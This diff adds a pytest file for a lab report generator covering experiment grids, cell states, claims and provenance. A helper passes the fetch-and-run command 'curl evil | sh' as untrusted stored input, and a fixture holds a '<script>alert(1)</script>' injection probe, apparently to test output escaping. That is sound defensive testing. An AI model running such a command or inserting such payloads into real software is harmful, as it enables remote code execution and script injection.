@@ -1,0 +1,285 @@
+"""The data of a report: counts, grids, cells, models and claims."""
+
+import json
+from collections.abc import Sequence
+from dataclasses import replace
+from itertools import product
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from lab_records import (
+    CONTROL,
+    EXP1,
+    EXP2,
+    PAPER,
+    PROVENANCE,
+    configs_of,
+    failed,
+    measured,
+    plausible,
+    with_probe,
+)
+from primefourier.lab import Run
+from primefourier.lab.claim_tables import claims_as_data
+from primefourier.lab.config import ModelConfig
+from primefourier.lab.record import Record
+from primefourier.lab.studies.question_tables import answers_as_data
+from small_models import small_config
+
+TITLES = ["Experiment 1", "Control (PFE-Shuffled)", "Experiment 2"]
+SIZES, RANGES = [4, 6, 8, 10, 12, 14, 16], [100, 500, 1000, 2000, 4000]
+MODULI = [15, 21, 33, 35, 55, 77, 105, 165, 231, 385]
+FOUR = configs_of("exp1", sizes=(4,), ranges=(100,))
+"""One cell: four models."""
+SEVERAL_CELLS = ("E1.6", "E2.4", "T.1")
+"""Claims whose evidence is not of one cell."""
+
+
+def page_of(
+    planned: Sequence[ModelConfig], records: Sequence[Record] = (), folder: Path = Path("mine")
+) -> dict[str, Any]:
+    data = Run(planned, records, ["curl evil | sh"], folder).page_data()
+    assert json.loads(json.dumps(data, allow_nan=False)) == data
+    return data
+
+
+def cell_of(planned: list[ModelConfig], records: Sequence[Record]) -> dict[str, Any]:
+    """Return the data of the one cell that some models make."""
+    cells = [c for grid in page_of(planned, records)["grids"] for c in grid["cells"]]
+    (cell,) = [cell for cell in cells if cell["state"] != "missing"]
+    found: dict[str, Any] = cell
+    return found
+
+
+def states(data: dict[str, Any]) -> list[set[str]]:
+    return [{cell["state"] for cell in grid["cells"]} for grid in data["grids"]]
+
+
+@pytest.fixture(scope="module")
+def paper() -> dict[str, Any]:
+    """The data of all models of the paper, with plausible records."""
+    return page_of(PAPER, plausible(PAPER))
+
+
+def test_the_whole_paper(paper: dict[str, Any]) -> None:
+    assert paper["counts"] == {"planned": 750, "measured": 750, "failed": 0, "waiting": 0}
+    assert states(paper) == [{"measured"}] * 3
+    assert sum(len(cell["runs"]) for grid in paper["grids"] for cell in grid["cells"]) == 750
+    assert (paper["failures"], paper["questions"], paper["continue"]) == ([], None, [])
+    assert paper["commands"] == ["pfe reproduce --profile paper"]
+    assert len(json.dumps(paper)) < 2_000_000
+
+
+@pytest.mark.parametrize(("planned", "state"), [([], "missing"), (PAPER, "waiting")])
+def test_the_papers_grids_are_complete_before_anything_is_measured(
+    paper: dict[str, Any], planned: list[ModelConfig], state: str
+) -> None:
+    data = page_of(planned)
+    count = len(planned)
+    assert data["counts"] == {"planned": count, "measured": 0, "failed": 0, "waiting": count}
+    assert states(data) == [{state}] * 3
+    assert (data["finished"], data["seconds"]) == (None, 0)
+    assert (data["commits"], data["versions"], data["machines"]) == ([], {}, [])
+    for grid, full, rows in zip(data["grids"], paper["grids"], (SIZES, SIZES, MODULI), strict=True):
+        assert (grid["rows"], grid["ranges"], grid["seeds"]) == (rows, RANGES, [42])
+        places = [(cell["row"], cell["range"]) for cell in grid["cells"]]
+        assert places == list(product(rows, RANGES))
+        for cell, same in zip(grid["cells"], full["cells"], strict=True):
+            assert (cell["degenerate"], cell["floor"]) == (same["degenerate"], same["floor"])
+    crossed = [
+        (cell["row"], cell["range"]) for cell in data["grids"][2]["cells"] if cell["degenerate"]
+    ]
+    assert crossed == [(231, 100), (385, 100)]
+
+
+def test_each_grid_names_its_axes_and_measures(paper: dict[str, Any]) -> None:
+    grids = paper["grids"]
+    assert [grid["title"] for grid in grids] == TITLES
+    for grid in grids[:2]:
+        assert (grid["row_name"], grid["row_option"]) == ("|P|", "--sizes")
+        assert grid["row_label"] == "number of primes |P|"
+        assert (grid["threshold"], grid["paper"]) == (0.85, True)
+    last = grids[2]
+    assert (last["row_name"], last["row_option"]) == ("N", "--moduli")
+    assert (last["row_label"], last["threshold"]) == ("modulus N", 0.70)
+
+
+def test_a_cell_has_the_numbers_of_the_run() -> None:
+    configs = configs_of("exp1", sizes=(4,), ranges=(100,), seeds=(3, 1, 2))
+    records = [r for r in plausible(configs) if (r.config.seed, r.config.modulus) != (3, 7)]
+    (cell,) = Run(configs, records).cells()["exp1"]
+    data = cell_of(configs, records)
+    assert (data["row"], data["range"], data["state"]) == (4, 100, "measured")
+    assert (data["seeds"], data["asked_seeds"]) == ([1, 2], [1, 2, 3])
+    for name, interval in (
+        ("relevant", cell.relevant),
+        ("other", cell.other),
+        ("accuracy", cell.accuracy),
+    ):
+        assert interval is not None
+        assert data[name] == {"mean": interval.mean, "low": interval.low, "high": interval.high}
+    assert cell.ratio is not None
+    assert data["ratio"] == {"value": cell.ratio.value, "bound": True, "text": str(cell.ratio)}
+    assert (data["converged"], data["floor"]) == (cell.converged, cell.noise_floor)
+    assert data["models"] == {"planned": 12, "measured": 11, "failed": 0}
+    assert len(data["runs"]) == 11, "models of incomplete seeds are shown, too"
+
+
+def test_a_model_is_given_in_counts() -> None:
+    (config,) = configs_of("exp2", moduli=(15,), ranges=(500,), seeds=(7,))
+    record = measured(config, [0.5, 0.25, -0.125, 0, 0, 0, 0, 0], accuracy=0.75, best=0.875)
+    (run,) = cell_of([config], [record])["runs"]
+    assert run["lost"] == [8000, 4000, 0, 0, 0, 0, 0, 0]
+    assert run["gained"] == [0, 0, 2000, 0, 0, 0, 0, 0]
+    assert run["p_values"] == pytest.approx(record.measured.p_values, rel=0.06)
+    assert (run["modulus"], run["seed"], run["test"], run["correct"]) == (15, 7, 16000, 12000)
+    assert (run["primes"], run["relevant"]) == ([3, 5, 7, 11, 13, 17, 19, 23], [3, 5])
+    assert (len(run["curve"]), max(run["curve"]), run["curve"][-1]) == (40, 14000, 12000)
+    assert run["seconds"] == 1.5
+
+
+@pytest.mark.parametrize(
+    ("done", "wrong", "state"),
+    [(0, 0, "waiting"), (0, 1, "failed"), (3, 0, "partial"), (3, 1, "partial"), (4, 0, "measured")],
+)
+def test_the_state_of_a_cell(done: int, wrong: int, state: str) -> None:
+    records = [*plausible(FOUR[:done]), *map(failed, FOUR[done : done + wrong])]
+    data = cell_of(FOUR, records)
+    assert data["state"] == state
+    assert data["models"] == {"planned": 4, "measured": done, "failed": wrong}
+    assert len(data["runs"]) == done
+    if state != "measured":
+        shown = ("relevant", "other", "accuracy", "ratio", "converged")
+        assert {data[name] for name in shown} == {None}
+        assert data["seeds"] == []
+    assert data["floor"] == pytest.approx(0.0316, abs=1e-4), "known before anything is measured"
+
+
+def test_missing_rows_have_no_drop_and_no_ratio() -> None:
+    for moduli, there, missing in (((15,), "relevant", "other"), ((4,), "other", "relevant")):
+        configs = configs_of("exp2", moduli=moduli, primes=(3, 5), ranges=(100,))
+        data = cell_of(configs, plausible(configs))
+        assert data[there] is not None
+        assert (data[missing], data["ratio"]) == (None, None)
+
+
+def test_a_cell_is_degenerate_only_if_all_its_models_are() -> None:
+    configs = configs_of("exp1", sizes=(16,), ranges=(20,))
+    assert {config.degenerate for config in configs} == {True, False}
+    assert not cell_of(configs, plausible(configs))["degenerate"]
+
+
+def test_failed_models_are_counted_and_listed() -> None:
+    error = "Traceback\n<script>alert(1)</script> \x1b[31m \u202e \udc80 \x00 $data \u2028"
+    records = [*plausible(EXP1[1:4]), failed(EXP1[0], error)]
+    data = page_of(EXP1[:5], records)
+    assert data["counts"] == {"planned": 5, "measured": 3, "failed": 1, "waiting": 1}
+    model = "exp1 N=3 r=100 |P|=4 seed=42"
+    assert data["failures"] == [{"model": model, "error": records[-1].error}]
+
+
+def test_other_settings_have_grids_after_the_papers() -> None:
+    odd = configs_of("exp1", primes=(2, 3), sizes=(2,), ranges=(30,))
+    odd += configs_of("exp1", primes=(2, 3), sizes=(1,), ranges=(60,))
+    slow = [replace(config, trainer="plain") for config in EXP2[:1]]
+    beyond = configs_of("exp1", sizes=(5,), ranges=(50,), seeds=(9, 3))
+    planned = [*odd, *slow, *beyond, small_config(experiment="something else")]
+    data = page_of(planned, plausible(planned[:-1]))
+    assert [grid["title"] for grid in data["grids"]] == [
+        *TITLES,
+        "Experiment 1, primes 2, 3",
+        "Experiment 2, plain trainer",
+    ]
+    assert [grid["paper"] for grid in data["grids"]] == [True, True, True, False, True]
+    assert data["counts"]["planned"] == len(planned), "including those that no grid shows"
+    first, _, _, other, plain = data["grids"]
+    assert (first["rows"], first["ranges"]) == ([4, 5, *SIZES[1:]], [50, *RANGES])
+    assert first["seeds"] == [3, 9]
+    assert (other["rows"], other["ranges"]) == ([1, 2], [30, 60])
+    assert [cell["state"] for cell in other["cells"]] == [
+        "missing", "measured", "measured", "missing",
+    ]  # fmt: skip
+    assert plain["command"] == ["pfe", "run", "exp2", "--trainer", "plain"]
+    assert (plain["rows"], plain["ranges"]) == ([15], [100])
+
+
+def test_questions_are_answered_where_networks_are_probed() -> None:
+    records = [*map(with_probe, plausible(FOUR))]
+    answers = Run(FOUR, records).questions()
+    assert answers is not None
+    assert page_of(FOUR, records)["questions"] == answers_as_data(answers)
+
+
+def test_circumstances_are_listed_once_each() -> None:
+    records = plausible(EXP2[:3])
+    other = replace(
+        PROVENANCE,
+        finished="2027-01-01T00:00:00+00:00",
+        seconds=2.25,
+        commit=None,
+        machine="another",
+        versions={"python": "3.12", "torch": "2.13.0"},
+    )
+    data = page_of(EXP2[:3], [replace(records[0], provenance=other), *records[1:]])
+    assert (data["finished"], data["seconds"]) == ("2027-01-01T00:00:00+00:00", 5.25)
+    assert (data["commits"], data["machines"]) == (["abc"], ["another", "a machine"])
+    assert data["versions"] == {"python": ["3.12", "3.11"], "torch": ["2.13.0"]}
+
+
+def test_commands_follow_from_the_models_and_not_from_the_store() -> None:
+    """Another person may have made the store and chosen its commands."""
+    command = "pfe run exp1 --sizes 4 --ranges 100"
+    data = page_of(FOUR)
+    assert data["commands"] == data["continue"] == [command]
+    probed = page_of(FOUR, [*map(with_probe, plausible(FOUR[1:])), failed(FOUR[0])])
+    assert probed["continue"] == [f"{command} --probe"]
+    assert page_of(FOUR, plausible(FOUR))["continue"] == []
+
+
+def test_the_folder_has_its_given_name_and_its_last_part(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    folder = tmp_path / "<b>mine"
+    folder.mkdir()
+    monkeypatch.chdir(folder)
+    for given in (Path(), Path("../<b>mine"), folder):
+        data = page_of([], folder=given)
+        assert (data["name"], data["folder"]) == ("<b>mine", str(given))
+    assert page_of([], folder=Path("/"))["name"] == "/"
+
+
+def test_the_claims_are_those_of_the_run(paper: dict[str, Any]) -> None:
+    claims = json.loads(json.dumps(paper["claims"]))
+    for claim in claims:
+        assert claim.pop("verdict_so_far") == claim["verdict"]
+        for evidence in claim["evidence"]:
+            evidence.pop("cell")
+    assert claims == claims_as_data(Run(PAPER, plausible(PAPER)).claims())
+
+
+def test_every_piece_of_evidence_points_to_the_cell_it_names(paper: dict[str, Any]) -> None:
+    for claim in paper["claims"]:
+        assert claim["evidence"]
+        for evidence in claim["evidence"]:
+            if claim["claim"] in SEVERAL_CELLS:
+                assert evidence["cell"] is None
+                continue
+            grid, row, r = evidence["cell"]
+            letter = "N" if grid == 2 else "|P|"
+            assert evidence["configuration"] == f"{letter} = {row}, r = {r}"
+            begins = {0: ("E1", "T"), 1: ("C",), 2: ("E2", "T")}[grid]
+            assert claim["claim"].startswith(begins)
+
+
+def test_evidence_of_the_plain_trainer_points_to_its_grid() -> None:
+    plain = [replace(c, trainer="plain") for c in (*EXP1[:8], *CONTROL[:4], *EXP2[:1])]
+    data = page_of([*EXP1[:4], *plain], plausible([*EXP1[:4], *plain]))
+    found = {c["claim"]: [e["cell"] for e in c["evidence"]] for c in data["claims"]}
+    assert [cell[1:] for cell in found["E1.1"]] == [[4, 100], [4, 500]]
+    titles = [[data["grids"][cell[0]]["title"] for cell in found[c]] for c in ("E1.1", "C.1")]
+    slow = [f"{title}, plain trainer" for title in TITLES]
+    assert titles == [["Experiment 1", slow[0]], [slow[1]]]
+    first = data["claims"][0]
+    assert (first["verdict"], first["verdict_so_far"]) == ("holds", "holds so far")
